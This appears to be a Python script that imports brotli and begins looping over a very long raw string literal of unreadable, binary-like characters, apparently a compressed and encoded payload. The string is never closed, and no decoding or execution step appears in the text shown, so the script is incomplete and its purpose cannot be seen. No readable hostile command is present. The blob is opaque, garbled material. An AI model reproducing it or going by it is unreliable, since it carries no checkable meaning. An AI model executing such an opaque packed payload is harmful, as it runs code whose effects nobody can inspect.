import brotli
n=a=0;b=1
for c in r'''8Ƞe,; ;WYޝ["1JckR̃o7݊hm_$hۻM0Hz	M:Y1GVmw˨@$EUu$Ő%@W<@
XHÍ} kݍLVXb U/BĻR_ϙءRwk4?];qQ'i&3Q#j}[DZ+M|˭R6c֥}3:dd,mdto|vЄ̾iשbI:D
iWU@07lރvЯ6Qp`g"DVzxGکn3(=2v>ŒNX,}b;ƚA~aT8>}3T}\ ]klaM=,-׬k tI~̑JČ8!*B8^gC1
yԞ9ΉkAKy_0If:9FנE?1&[-õx3)0wřgj1aC&~.3xQ!V&2y-Uxj*+>h^+Ƥx"DKW/fM59E{Һh<nG`T=$ԫ h"ׅ{& #lK͸*(/Z84Eic!g*?knSϚhvgM=Fi@؝M.	D_q_*{TJ,STMsjx^n~;G+߁`a>Y+ήfƱI7l=,CvаŋuGVtwSČX>n8$Phbd\/+Z41pʜ"t&c=E©ڜk7+9DNN^ҥ--aK͡E Ʃ'^,3;".-)`P۟"hη(A`͋.R34X>Thc?=/R0c@L?X{ XEIeipgŹWkdD?tު.aOfO-	 >ٗ	r2{[͑OP}}=A-hp7ѺS%gNў\,\ǓU6ǹN/>otI\'23Ы	6HWc#<U|ſIaqlP5s~<#fG3ħ>twܞBҡDA$m|t ;Y#(WԈR.~UdBrWT˪בʈdW6z]ل(Si)mIK-W_؋V%8v=G\څ.sͤ 4&7Y|6`|{[BQA[ס*J2%X|bȲwXt]A)k|XA"~ǁ?D1iQVfgrOȎ[^>wJޞڨu@V%{CݸCHc]:A}^g7]پ_gكÄ˼2nPkЯPH
:y4^{<lg,A#˚ӭjǰ&`8ʬCX܆͠Y_@Ŕ/<'Su4)+8xI*oks&p:r.+?d
'kh%qHܪڞћǅVhl SqơG|fM3͵FѾDۨՁ҆aKȎxZn}m^l	ک|HIa#JVAɞہ^ܾTF@Ɔ`R$">ҍ !{PH%qԖ(]PVxx/(:bFx,/>sȆ1j'<kͰàNMP(kT5}ȨÑ7%}6JOM[@nƫSF}k_ҖO:M$fX|UVT74`>KWԜsu~A4
nĀ5khC$صs@(ϸdՀ>3}-ӧU9j+Ե})ʗN+b>4A,_)*k0ʏ8\A,j]xi;jb#,X6YCq,p9O-~Tlq)!GpQԘޓ*Tp/lh.ޢ[f@*"V].J-'ےqwHCqjp
+Յ~Ns{ƃ_cZr9Up9.7]<hҲY\l!PW`/6n/[1l,]ڀܿ-w 5c.>$4?z5(ͼ!`yi{:DH^^hlo8ʄ[Hݳ53?s0~0LQ(ew
B1Nκ,!ۨ
sՕتu-F9QNoDf$ES >*_P1(O+fTksþ'u?ʨ0Ņq=)8+ZKiUtrֵe}eJ	ԫ$Cp>CViK2-Aϸ4#<:y)+rlE;HKm(HV?BCYoCַo׼pp|3ݶ]Y/rӭS>¢msSª,i̘ $(ST[`?8/P}fƶtOe)b7bmd*5q-8Beݶ	Ck6fJKI$mO*nI֞hɴXI#In&miE
*CI]ˍ;vncVͮQ<^Ͼb*Ĭe}0^sΊe)	-e|LKatx<Pcɀ}m	ȋߒ}5C~X*m`25K[|2:-ǳbǇrؔ_a!d4F("?S.9?:CGK,&6C	BВ(>M`e$zhVu[Z-h^ZŖ>[]P0wKX5ҐٌDήayJ+bs!zP`K`)-KW$OWMK8/TuGôVgߨs=~#[lf]?7J>ΖʆաݳX4fӉaA<V$SCdܕ[y~RәMÝ}~K}_LzZ@!޾ՓCh2=EqV*Bl0cv,\r
+6iiU^VduxhGSX7lE*ĩih5-).*osy؄he;"$xoF']sks{ӏgnp=rk̰~b:x(uўƊyrJ(D.Ƌ)=޽75i_&(~'ˮ
2ޅIZSYj}O6O4ΐ.m	OzϽٳ+'۽W5F<T{_ݢBD";owk?̙Oϔiu;kәA߇'s+~[	?EC;S6ef1{>ӮٷCJC(vD^38SV 2Rb9c7;z	LXg>Mb]Us>߹,H.8_EƛP_XW8Ԭ}GǕ!\+ܞC^oUpx$Li"^wV4dPIҹ?rƣzl-X'̼ԗ׻sx(#;CrfRf{C|N-n(fIey{/*Qm;O\}]$G'=-YgWXd0-WZPSAx|"]D%DYGKWpMq.2UcZm.}0`Wd17n\i7NۦݢV*pro\،VΊԸL\t.z_4պRٴIuQǣ`OΓϫC6&%	b`0}ӽ=@%ڦzKt]p[Ʉ6q+@(u4=f/&:4L-è
S	`pg:**f4Syھw=.(6[En`gӫwvUJϦRϖe&Q,Z_dЌXǜt3\Ļg{j_o]kMhԀeJ>ҁ[0֥2FbCvNi&]Ӽfsϩ&F8/
:!B^+y{lEHz=7uX`HסX+erۙأeɞL1)yt/A}+KȇX!qQl]*NO+$(CO9S]0gum30۠(Ե$ZܔDAlTxS33]6ʲtx7|M>He$qy#EFqаTp Ф30W|X.)˓pu}l{Lݞ'h0hpjxz˹NˊJXȿqC,
ʣm0Cj=eZن?pREz>1KY*0vN=lظLe6&k=hUgyQYydkJאEW/s݉-7wPmpql۰kҷ)̕)"NԚô$F7,eʉʡ	mFd8Yb;4F·љQߥЁ4([˼ [͕"RT,k6~A5k'3ml`HAK(6%WMNǱj.4]$w3+Ĺ'eİ0	<~s"6O$7u~_W,dAۦ,i07ZU[rF?ˑ1u;%ccڻ̤rC;LJXÁoR{]1DʅFF1=)Zs1hǢxM	t|6xI6e(AMW&~ΎȬs|Z4V^ʢ#wL"C~1yo_=$R{4sM,plPی*eՕ˸ZVHص/5ӾTڠr/zDQpvH	
'Nf۫|v1G$ō1,~+JK
IkaV?T@nJ+ϲ<pkɇg9ϒO&1~ba10(|a0=}g9`A865RJ|1F P~OA?9BЍ9#ךRj5-eU~D	wCivb:9ެJBJ߀ZLK{i3p @5:w|@HLxǔDKWOYƠ[^Qdӹ|ɝ,07CFStyYZ>ִp'ϺOqҜ"&_N?{B@cl1`VCΘy;YU>6:>)
}m]2Dz|_wyxDv۸Ga0ɕ	؇b-ODr;fƍ~cˀ4wc>A+cZQ?/K;)bOTޜ3aqw ؠ<hg>ƿ@{̯kn_C0pߨ3IpTöiaO\{).2Gy҃+]DE<aa@+r0{ݘHd^-y̞uj;lo¹z'[dשno;9@/fѹ}mx2q1LbpqXNܺ|_uHTGaw(ۅ.*\3WF1JUOSX)K:s|7%4zC"w1A5g$NL;(IEǤZ`FB&]7IP^S	ݣm<iT#Z٨JH>;1,2bΐ1"4S8_|{90'/)~FëP$FT-N9pz}
PFN_+݅ϩ~DJuaN_{'Uѝ!ǷIL}MDRT8pa%w-x!~kT<+ymяd*rMг
h]_7.]ex/|G@N7
E|0_iB87Qa/}e=oPtE?DrZ?Lt\_{u0?)ѹ:(<b!4ʙ',	I.D3<Pp٧qMA^̊/-&HN2ioh!	|@}5ݵ2lLY0l{=v)]ŘVy/bTϯQ?&̠)Ց0#LbA6(;ïQ*Nq2w&
3Ҽ'9`G:^-ն
O 5ƪBö=o#Ð3_ٛOq(K.\XtЖܽXzW	.dEz=2Af)>F$b}d\0Nz'S,gWe	1^Eh8W~PbqnC`;kMIX
9H#Kխ`[k{C$AXwi&sB&U	pkr!PaU'F CU`MMlϙa~ؗ
2Ι-xed7M5:̀`GJԂS\DaL0)n?Ӻӷ,lZfeK`	kȜ,W=+J.TUV$Nbv)I§_9PEIJh:D&Vwܔi`eJξپio{¶VҎ*Ѡubs=9ȃ%ÞTt)&dqz3\)7\o܎V`fgZ"I[ؔHwa<݌*jf1M\JO(7ShZӑ#fԸ:zKi4b8mj"6G<h.vxj;p)VzMIFGdǕӵŬNMQɛA@ҿUKcԷ4,b!v[qRdmyo|hHoڍr.i(=l_rѶeݱa?ĵv3ZIȀ7[%'f1rm@l2h6$o%1h|Jb5~Y,+IuSn&#As4ԝuHݍipٶ[1<}|iPACZˌϋoɱٷWB%<`>CA h	?ޡ<$CISN#KR.Vi#C>O-E'r4Y<j®J
tq
SX.jN-fCM׽ՎJ?FI,b@j>0s@F0aV;<Ei>̵r
#wUͨ~SYXJj"AOW=qI5'+uڮ2nq:peobY&%O07=$j^Dq܅Oqq(DUhlЋ5>љ>D55P?.Q֌IJؒ*N8ںyvv,Ÿr4"I8;m9gXz>ʡjUUܣr3(|=eޡr{iyCSjwi-CZ1iX2ȡ&ܫf=x	Jr+qa{i)PAnmy9I]AL֥JYݡ
HOduˆ3njg k*hث/'̝AUR9@{]ҝlްgҗl޿wBNGmtW0p$7nNQŀaHS9>]
Áφ*uisF%s`0O11Zf-$yAlVɚm6'lqe[~$[?w&.vhBtr/e?a|Zx-N
3Sx zܣ+E<R!3X.#Ąr7hLܦa=ZB7?lpܝ<Rj%8;nڋ&_߳_<Q͊̀Pǋ%dHXD#2X f3.wǙO+$hP}ѹlCԦXωߞq K0Y/A#<Jo0a3i\CXWMGNóނ^_6}(>Fq-xX
Ʋ[IFAu*OJ#
Ž!aCXr3ҶFir)	49xaMq{-STTFi4/ɋb2up¬0wSR{XHJهܪ02.ߗԪ;0B(̻tMҞ?*7 9vtZM/߇)jsA>+Ң.Ī&1I<V6SX˩	bn3g\I(t7[(&S>7zYʍ39ob2&#o8ȗ--KLv[^r^P{ڏZϻ(vdU"ʳ"ءYNj`J=ݚA(f`ͥ4 tYL"k6h'<-;L18A^ž[c)k<{
5s<@p IZȬmv*LO:p͞C-VJGh՘|5nՍS.&y~0L},٠ѽg݊{+^DUnumc˪}]N%cơ!k[݌֯ۡ3i<wЃ&RN$4Qt?2HH? Ґə##7}*4MX3RXƌ|QҟpC%tI6CݘͧJV&[,6<y,{Ut`HJyͼˌ VH&Ïݩ/{ނP%EC[kq!OeY2^ˠ^roR?#!Fo"ٮzhCYt8$~μU{Y|ͱiЩnSܩK`
tآ,Le.2W˼1V
4t3n>q+Fڡt]8b/ΙnvO=ut79msa[7iadayXE;*NXTf&L&˟9a	٠4_"C;bs.3MR`ff֔JP9Ay&I=_qY5tӬTYxo8|4	F	!$.²~sУ&?ǥj_Up	N̸]ze	oɲ22bc,B)ߓ1ǥs'6	"y+_\Ŕ\//P}6aOKut59g	Wu|uީPf>͖ևt>@%iL`uo+Դږ!4y۷.z5U.c|x2aje ~zyɳ!Ǜמ8I~<x\w3eۆ	Uf`mt-Dۉr{T	IMwwПnʌiQ,~oߚL
GЎ+:fK´CP۲Tl[:GZ/z_SzَauW؜HB1#SruͬUؾv5S{mIنgѺlWZe 
-/jwVOn=_PXbaR^Ǌw7KҔ-y`Zu}KV7=KlhӚ=#{ūc++fC]I
;i>ĘB_F̴.%`NrGϳp?EgC50(<f4@()1JGZg4t&@`aÝr#Y}=TSv;5đй'ݸv2KC"cקAg`IdRjG<Qh
؛xل)ɥM46pVqQ]9ʏrac?sΔ@Oº_,98#@֓>ZOW:9$_g=ZҷK(vD'<qqo!Y:<fwJ/#4Zг<s BFz|&w;cϵ-9ׂf%E/9oIߐ,s
[G.ߴM}7Cs}_en(={CMzyZv-'ԬRCZ^ =PvtO>[΍!*o
շ2$ǉpLmR|ٕ3<)ԅz:y]ѮERɐ˜rb#{=THr!:dQe^MxԚdtŏ=+rm:#5E9ΐ\PێDh#}^ӽDUmhӾZ/
jCBAr/in%[V=؛4,p\	?du[Zv[DQ.KԖҙwW,D\҉f׫W&m w
MUx/4X/}Xo\qbFRΘ[8rAbݪ(zNz3λ̓e{U'ߤ3Ud;PXTڙwywLƕ$ÊcY)rx !2[<X߫KM@S.y7-c`	0~%PHΡ| %^δ.lgQ	i9ڭʲީP(݆4ϝz:hù?AU{R**yA+Cī.v)qےKR#UC)!1)CfhmE+؀C݌.qm69ՓypxߊIHIIE؜`Dtիw"+3d	c@jř|¢ptZA{[N܈lۑmR])	l#y٫Y`T9g"˯kyeMRN6"qse͖Quo\Kf2+۾,)U7ȿ$Z
+=Vbz4S|0L2GEuuڇdVx3rX+ȷ
-qzu`>ɋ+x~aA8RdUѺ6:x\~؞[ўF/VvD?i39sӤi,l=7uMZ0ʇp.Ү|]\P؈@ԒmӕԽ9MN?.lH7'n;Ab8:34uh25Xbߦb۷,Q8VxRل(1؇B,5e*~YXxY`JΎJ\tP#uxY'c6ַX!}:qøT*EBWj5N |mOqRiܚB"Xb9:xc(4S)QkO7N5z,H]vIc-t@ˤdn
7 6vbWk0)fzƷ2@B5rxܙ͟'\ifVɍz`wa*XjdXWB|A,]*CE&Fd1/y$9w;_~cn'EQuopJhFk5Ί̉ӹua׵؞)yT+cus@Cǡ$5`}x/~UH`&dwը0ْwC=rGvC>;͂ڹA2T!{I'"4=Qlގс5
τʼYgI]ݫ)-J$cҼĖ*^Ɛ?ڑ_×g̦MKր]={[݅Zd&GW%PiAI9iTrVBn|^iȤ<`ӄA`}Ȕ-_^tte:0hk=ή/';ȁrDfxEGL5,+K$AOPA'֦wiq;((.XӖ!z3eDʶ1p'^Ԕ/yXWQ(ڑ;>qԦsf+2_OU[{fǳ7n3 6&p%l?lzB$!	W;9fU=tXgA/%5U4. !>zNHT7Ey.*J
]AB}--E޲`Um°{}ۀEݺa1)i::g֒[&c<6$2mUsz0sF4tD[9K:+ պvPdRJZXm>cfèrnNRЉoWZQ6{d-"R<0OcwF{.%͇ģGCE9i	L.nM7bژx4BI
Gaf ʵuzv,uɶ)1png<FL>xofr)V uv5\D?ٲ 6RUΪgc7`M,K[9X}ê/>]^,~MWӕY<֜iBa^+ʭ	Fmǫ.l@sj3(= ?ѯcD4ь]dE"0=LH_5m$<HwP0f2#VkYi57]<B"<,b<R)Q/!AOu{h	#ʃ̵&]^)ʁڃ_ eȊ,0W;7Y
etm0xjZa6b4TbΓ6"cglvǤz3kj>ϿqaMbb^rMHi"go&,؀ 	od}auE=֯ί};©{޼ڏp6˸͕5lJn|zRbDp߿fWrzY2izX0O&	g6b#`f~`@;DgoG?O6O̠yI	Z5?=0A(qOɳpϧ~l`	
uڟs~ų߸-_cA%Q
Ӵ1l_.>;yBuʭ9At6 `Ö
UlHͣx1rȋ|	0J\5xDLOU qޣ8<_[ĽGN|%}=CSЅ(7EYjƠ#Ӛҏ`=Ĳ+#ԋewl6b|Җ{ςXK3EOZ:(AzɃÙ9^hֶMKUnG`gڍ0EREpd̬+:ARp5cAow`5֓9rWbBj;-<7iv7B?ќW.b^>$AN0D-d3M/jsɧL~ QMm&\6n*#ۖ$y`~԰eHe/7<tgi#"_A>3<cajǑږR;<į_~یۈ!/`tv|:b&8P'{-<zzSIт8=Bnto]V݃u6֏mE!G[aXVNS"iODJK*pC=Gm^_;Fʈy@l  RtIGU}ԩbcjX|P4}Ϟ MGMҺez[..0"Jp=yXE0rZ3$"Q+RʫKҢC\+lBnVƻ{]%58$vrgMU+ڰc|>=إ׶:gVR{KS!K.[ètߎ$c__IRN^i`%y"1C_keGY7qA`D¶*;(!FVXT-]óq٪߳$OBUm	~(heƗߍ<E_*j^@1JLIɝvw'CV8z6&~̍aѺoMrTRʃYZvkHi71XLd6uAQ%%"XejHYxg!vh̟A;̯6hWͼac09^Csc=ueɈGS!qZ)E'm{X`Vc͡U8ża,oj@V5|tx1Ct,C+W3FG=yMݕioKCTk&9ͧ͙/SͿ7 _-Y&pSx*5Qr`dx@f--gڷ*x&%;WQS{5$ȨCqE>fƽn1~utORxDظ܃\dfJTLޚRmNqb؂^
v;8	98,-By48]m_<X\P\h2hsňqnz:oQGfI[۩.2H޷߻]G
ܺs]P8C2=B4v<Hbh
?lmaLlK9	't#Ss8irx~><s3.QO{ntH^Ւ	13!@ֈ֨½ŤviZ=$
X4NU˸
G3#
5-]gf#ɦr'=^9@R1|͖P9^Zw[>55Ű"k	/FvŁsC8g#E
_SyQ@AϳI6E=Фf:=ȉ/Ur0يz?҆ghb2UoA"C!S¦<#il])Ǐ@f&"ɺ=pQ«D&<({{'/9ڒރx0=SФʀ3G".9G*gҰ
*Y8<wb:С.jnY8W1Z=mՁի6a^ɞE"[>IG8KզF~k]ǡwyݓ<!Ѳ=a?"NEbɄ6b%nX
T_{ݵ)!>AOKM3 ~[lM/A696>)w^*ύ}snm	J#M,ǽmlm[ӳB1ҪAzvqmhԃ?HMɘ)Z ͕WIW#_6أN{V_<Wl{aVhmOJ,P?v>{q	|ҍwM\̥WV$Sj uϬI'L:0]^Ac=zm]
8tܬcƺmݝ}S9@{]҅[Nuש2xPF3.-HdIkq~OpY5D+c{dTNIֹٕ%1-߹=ۏKJܑsΰX¹8)ƏjQf*Ɏmiwt) =
ʛE@ܭؔR"ɮ*B]ncCZ΍!`9b9>9@UF7LkVhd.qhwB8x9A %ܩɾ00;8?ПfVFgVyK<<>"cAmGn#[Ӹ!lckgU=mNs/>3rlSXR@h>/XYfVd٨#Ȥro?tz8bUiyj]GeXohD/%ɮN'y~y>'o@հ/pbT'aPŹ̷]$5%/ jMǏ҇3gW"EN;~=<QȂcwQƇ.wv19!߫CײJܚm=(k!ڴ(&5_c*	Ib9Ø|jui`ձ/6cq6n|2̓U&u9jFxf*gfƙ!9w;҇PN6dZ8()~\N?	H8?܋#YP[\[twKQIbaD!>E-ĔˊΜJŮgtWfh>+fki 9ƤeQ*i'RDYmAxe$Y.?zA^^_[ƘDD(_2=ِ-	=!gF٬.ɁI+Qmls-,*dX 5826FWD֪r0TYѾ#ܦ|i,Ϊo>L-Soh]@^U.:fK=tˡ$U@S״Z	dFj":Vt,4Y 0OmϘn)ˁwtSۜg_I=V#du!9,69?(>hN#|%۞z>U
#,X0a6B\a<!fU	+JƭcϔZgȗ,،e;R3Ӗj	v^5كuwKD#+ԑyFCǭɒdфvߦJ~Z1^,:;N;&׀(
]r\g90EN`AHZy_|Dϊ`ЍDt"S/pUw|Oz"iĢw'v/b<k >[l
ߦ'>(gPECfvP	w5L˾d(<][4#3Wg8]DPlzC8k%L8^nҪ@dO'="|D_2NΆK8r=~k4`F".*|LK2*jݙ->e,ԛԢo.̆DZ9tyHڳf%Yo\ӌ҄!K wYX%[[:b$i[:ѬMKapZjtMdҤ,EiIÐ~lc#wnaJC%v1;Egմ*Bo5zFs,6nѿ%Uodՠ
sz5pf؞z8<YoNv,p:o=20wSK/HIҊh*$[Ox7_dgە|Osי?gP}U!Z|_4a#	QH߫β
$A,sI!oIL!	<Oo@dBLXΌHHFxP2`- b.F`zcKALؽp:!!fd#K-s^H,چB!<q6c&d@$'vPsnFHq2c?H/mQRsn*kgD0cIH:D#W^ˍ\SwX՞X37ѭSٕqK|~<T<~"/[I՞&f۠9V@}w8wH+,z`J32ʡqZ2Ri(MG	}mI E9=ݦBUw]AGͲĨ-X	,<ՐƊگP{9Oak17~YҧΤ"@6rAC~ۓlj@\^mPamV5 -E:"*5ֲ9~ś{bٺl2D^m}G6*ӧ/KAgVVԴQ$dV-LD	(95+$Y~VU
ORcbKVr
;|UmGK7pT
WzwUeu/*f|_ڼ%Q2?Jstks@Z~&Xd2mŚS.Olпx͊*SHŉ fL.RSx>߄&WO$`7~>d4=	!G:	MYqcًS3b۫nmZչ8%J
XС@w}&`p-k4l'j+4
1bSB04Haݖ2ؾJGKmNfd\1m"&Gj%d$p	zBV6#$`sZ_ߍ:M7fY4|G	<.&zHɿ;X=SPIĘ YcBkJXgi47Ï+A:hj۷ld~!M.WE&/˫|җKݍLl`1j]08PHsMxLx*fOyTUM0ED<,
D4>A[~$z2ĢU8&oJ{N]f=ITIq{ؘύ9|xƋa
HA_$v0:X}|kQB(mخ(b7"39e	zJlJ$FjP7fBn÷ysgww3ia-xN|t}gf
ׯI̅ۿzX\/ϕXl+nWڣ̟xEn*uN	ghoojRp~2tĦO3/),h5&	|d[JCO#%Օ0\d`-1_hvFw_f-C.UfE]2'Ӽr@h9ޘ|ݜh.6#`HiCGk?X%I:+0RC\ÙsdjIn"hC|@^YdȲR)a!L(ړ"."ϧ{%>.?ɨ/\viXRLPRܷphv
X:|%	V B\-w,t6Rf""Ź21:ՓϺyya߼,2uħuܕZ3t[b''eפr.Ne.f+#sm߲ذʹɁ:qF;#6_5&C9R	4!tGN}XtP!;ni R۞Z~)$s.oT΅)Ae`Æ:3@EQ9BSf~O=Oٯ;YpyƀU vc~Rk|qYu݀{pK 7!yr\*s&Xr͖w;:3ޠ;Ɍ@ٙVC0pعg]!O)@ԷceѿaoB5Tx}1eVg\H	ݙwćC[fD&^sjLoZkNץn`Vihr]%4K
8
	"_RHqhw_	{6siߎgȷ&վ;f6`l[p(ؓAd
dS> pfAA,eio*|.]k3ڭ1SițDȿ.-pF>UFfQ'ڶ6אť<#9&"qH8|NhյN#˗sWu[J{.s$з
ѼS71.JWVtۖ!5_جODGM6M`efϦynGoEVKG?}a/	4P	CQқ_]Ì_e&mʡl$<F0;}E-7ltZsr|
4xU_	߂7zDc?!)כBqu5TG޿-7qpboTȗ@T@
sDiZY=:w,u-%ȣ>t*$r1$A*)X	CqjqJ
QTv6^\LW/@cTH,[:דɚkҗr|>@:<i>,r^0^ֳP>+W$VX
P\ڕ#J^T@S³_!؛Pՙ̽ר<΢k|#]ǆn-d"vZOTFQzSO$WckBB9{;y,(μnnq_8(vj;MWo+Prǥ8h:GGL5(q#`l#za!}Pj5^fL)~{w%ŹmBǃЯN3,l!x!֙dm>ݸ:}B
F(O|D@/~fesȱڑTP';~<ڂP ?7"@R?mX1fɚ&Y<&	@̰ROuE!NsDMgy{aN0`:Nx?g$%8К\lCsHYr!U6`7aȵ:	m@˾w܅6D!U|yJtd3nyl+txkDEM,my!5ew:8$b$@>D?\a	lΝiPGTTj";d^D1`7}7aA	tLG.`9Nas:lut:z?\mFtۋ{k!4Ư].Sp/R2O;ݻ8r\4μ|r*.t$D8K˟.2i4ߚxoQ]9ѻ@ʘ{i7wJB"I@[̓jcʛ< v(*}"M]ӆ%Ƣseh}y/"|{d%;Bؽ}z:RVxܨ3Gei_NIJ9-\&?h8P6˂yVKE-af/7"O){rx=@;ɓKE#$׊p_ٿ^.EzktC%@201nK_p09Ve6otSjT7|pqvK[U>jBa<ǯF*/-8,Brfi2iN)XY8ёc}<dcMZEh^G!߉h@>%u,O&/1:2!xYST[Xҽw9:ȹmp@Aq3Xqsz"XՖ94_Ig= =58z]AYǁڏmfx||ɣyŀQcZD_ԅ%-BА+}<ߟ<`̤װ"Tnw!qY=l	y"#	te^MOHVgÈ{&*+Dz5Z/
¢ 0kP9?&%aͷ̈o/i(|g% X"~$uBsQͻȻ{sMR̶5#h-lJC6ap~Ջdĺ ә
ˇآizXFj >Tw"a?ɚ0FӆinkƱG2ɐ
1qIrDdw v})-ʱ*X$AeUd\Ϫ
nԽ~=NފOVx4~+Φ!]\Ɩly͒vn֏av}	'|3Ƒ¨8_IR#IlXhӪdj}m^2ц5-#*͂24kة&'B1TQ*lɍ\7l15Փ6%%Wg>ǔ5ҹND1.?A	CMnKTݗ wHƻZD*ɺ>0RTZ}x>V;),Ӌ<QZa[ #Iš"`ˍ&soN̣aeqE78S3/6nCj5io)77c܉ثg]՜(Cl?hXh5CТ9vy
Cޯ(ZMݤi$ا/F/.
dy;B>=}9"w,-n14wq˵1gZ,ժ3+ZqP$-+GЦϩ;d˃MS*9[%z+I͗
ݞÙǗ٩HTf](҉Sn!ݘ^ZE!raPĂt|}[Q

Vw8ފę"ߨ[5E+VzKױP6$A%65/ڔV֋*c\܏͕̺qemjS7}1-sMȁQmaLcleJ2+q٤{,u= 2`hUH@,t)DhxLogHQV*Bڊֶ(=q! Hߔ5HhbL"zf&`%p;zj8R)h0
e[Y$1 :ɲ%(2Αݣ1]nF>oEˬzؠ,a	XSQRaϡ/ugdȲdC*]3ȼ$wliZyJz؂CYFԺtT'ڃ>.Bb4/K{dCvGq7q/dv%TFYfjs]q	altF]׶ǔh14qMݥ;H*9osB8Vܐ[$Ϡ
^fYa"DYʡ؏&%DSJmeYLǷLƦjPM1$0Zc#>$JH"eByB|ǬB,
E|90tÅΨ`L՚֪cWF%7{,f4+,70f]IUޅ;PzmߌcMY*o(i)O +H@kF;[ֺXZunu$Зx	˫:THD+\ْ8Q BôVwFiaXd\͇77.3;vAzmESݽ9YmerS`\՗Jexmdpd5)oq
PǲP̵Ej%ԉ0wWbG
MEzk9f%r*4lmnHSe:r
έ#I%sTMMM?vxHw%ך`I^!2Ƥxʷ[H8GaEH)4%/&t΢)0#d֮{Kz̞Ն=90ڱԙ'JsP [Z.%R\_\aVJAEod,[AsΣ]ʨ&fH|SvՖq^V)Êhnsm˓َ	ˑP$-E>CNӯ<(uLHzVMXtдXø!>1^ȃF{_GD־ΠH-.U1chȦʫfƠE	J#\.>b;8YյIQd|֛d^xO[N(یVUoFz{8G /vm;$OM?ß-[k? iәxɄlc
ĝA$;rp;ĵkSEBStUʍ"@Nt&e"s+՗?YSrt=1[Ț.4đ;7FVh3:DTY7;*a׵ϔG2Ig~yMTTϏh׆Ph#LĦYxky(:i*dE_z:-Kފv<l½<_"g\NI]s3b<VBj*+Tu֜8έ=˔z4mIS(kKyֿƕQg"׶G8V]/ܧF[T5CeRR_ܻFZ*[:SZ|St<Vw|mXiаD٬O1 pu6>Ma*C4T>re3pBXOt|ݭiֺɽP߬c5{ЛwQ<q-'M|oҚc^!9W`Ժݙ6f%z]XBʆ,:01%EѦle~DDNRR:ϑgX"?#aHR9K$6g1ԂQKmd#lhѹEŐTթh.l˺ts _u	>/[lXZȲG/є7W'uFQgBD9}'r=7ƶ߷ ywxFl6/(jV?`?'g21B˱-}%LE"]AWv/P,)nuhCrޗ(V5DaױLYݝHVA`)nGjķY\e%DUaZڳ$۰qCTl#R8aǓZKdPw7a^=
`D8UlV̗n{	
/gx#.j$HL'fbVgT}ǉ7$Y4רߨ&ɁgLO@Y<qPqMv#H+ҖSʹ[]6ihŐUuPK|xwz]׎؉/^gy1ymBw[ /MuI<>x*<xVrcQM	@7ح[%tџJt'-5ί!36A|eXaY;tړ"`_&A~Oq&x6`ó1LRYEEBn\϶Ʋoߎ4:?6:jSB]*Wcc 7wrp5vH.#˧Ɩ%RȨR5;^"dS^~J]jo<DCF0N&X-R&&Te0?\NP}l?!Չ??/cKϸ>Vsl
R)/2^q?&Bk`b#yƨ%<I \?{	,Nº< :?{ՇY?m:ٵYjjG&ݮBĄ=Ёf9@gwRb2ȕR{+\(4_:4#[BYv=gQu:CԆ\N	v5nDY- ʨN+Ĉx[_>Í@D/< E6({/`+>=qҺ
Ju&"4$U$ďy!Gz`ƙ!!3C-eEBa̽n߭)A,;)fK@hi7jJN^(2¼sgkj<67AΜ&{N
81p%ҿ{T';Mu|KE̗tG:g҄w-}:XAmA3[ȿ-TֆM3mԱ@Ϥ|@>Dw#DHa1I&Q	Um,
Wn̠[%90ߴn]BbĚ$Yբޛ7Go||8ćś@;ռk)KxAW5ކdDҭUSTj*q"/0bXܿʬu2'$m]ޙFX%:n#	ٗwշ@rAѴjzp^	l3r,ů4j}afIûf"!G2#aܫڅO5JT!ӄFnʇ1Ji6pوȱv8ǛwZ?Gسt#]IP7_ ˌgbc)tv̍.4=9c@R
Z6M#QGi%=w<W]xEŕNpy¿͂iyrqO_~|	v͊`&M8tA>1fYџ|"ACP'Df-0/y]).@ɘ++<hަ{6Ѧ=S$}އ2Z+D7[^4F{Ivp֖Fvw[@}ڲxNdB$)`i?j/̄%RQ<u-đ?Cmb2cP*A_8tp4zlwj)/FJzPϠv0<sBc~ƮP"
QDf'SCO<&b۶Mϼv%ɭjY	=_d͡_˶\zcUąyvN˽*ٛ;	ߍEzCܒ*X,|d
-`>_C:֒mȌ~Gs`<]@VzkCͳ"D/p'=I¶ۿ8eLmΨa{_@^BQsǽTJjlin@Ƞ*Zu~.bI?,-4a۪W<fb,iąmN
:/ƠqaPѲsYLbu [tqwZ>v1Qҝ*ewͿ1pw>[AjҲ3'ݴ>rւՖegĿM=ejT+ˋ_Ǖ,MĸhއF4\4PѤmE4qbcQ0yuK$SeٛW[\3uHzrAL?gcbz""^sZ,!za_Xx	=[֟̈ 'CYhܜS=ɜkLR; /=ݔ%?:l!@b%3^K\9)cs[b*_QLg4j.\.0|uJCC	>p%Rpy!Bb(v/ ҬshwK^
/0hǢ7cwbo*,݃K+L'*ҩ*%ƊCY7~EK	CqR:ʕY8pcb|F{էwvy6jDPȠ<<ũkfSU1.ĶCo]ߎ"Ԉ%X2SxDu{'b8bW0[R٤tN`ݦ~OYfBP;z"t_Muja(x;I?bIMSYC:~1mMX{(	6Dw$Â ,Gܩ=DY$WicƁ>Ŕ~#3֔e)xL=I$xwfPHREUpG$N? kG_!BCqR=/bE.jو4z*#BX23ƸLoĴ;t	p0VCpwL̩#CNw_ӯҽ_rnǤ~<hR4ƨB8vV*;]y?^Ӄ0ߺlDR?/ΕdnKoYێ 0M֛uݰCČ\3Y^=)t@GY`EǒZ
ifֵe{[<Jصk6!?	W5>B׈\K)NUɪGj%Y^pˊPrà""	K4!~ԗ|ٜaB*0G
-ȧrRFkC=-sOIyn>b#ZBH5^(qA~&8Mgy9ۂ [+j۴XYK_~=\{\͌*@$kCʙYM7l 97a#B.Ʒ[	~]Q%#uLpp5zn./yrw®}KtmvaXñ{O:>ہXv[`H@uO L{M֩η	ux2a(@Bxiغ$*k:].PB+*3(}̌϶DO,`&uƬ*Ok!u"eVy2_{ʫQ?^bawd{slؓcZ$ڛlUqxz˗@	A;v#lD&u5K|dɀl7iQ(΋޲k0tk/Cv=61}J6 8VpI)xůe"PxO	$Q0QHwFlY	a-qQi;`Opup 3PǳU'<i[ӫ7.B10cɩq)jtGQ~O֟J-kV(҇5^R.Wg4\'syKt|m`,6Oeߞ[#hS1SEi8s*aǽ,oifbYۧ}_E|&>%ەk9!;c*i<͂mz>j bezCp&Pqџb4jUysZ>sSш}zrJKtӪ84#ԵqamxC,2&s:`./%#Os>WWsTۻxc5W͍ˏ˾P!"ɩT#_p!!CċB.I˪)j|Qei\|qH'4̓\{qǋx_#U&2s;G;jNlV0:B`Nx7Ȫd^b:e>Dһ4zj9O`+۬G6(zlkȼLrΎ0g.7ud]HBہ.t
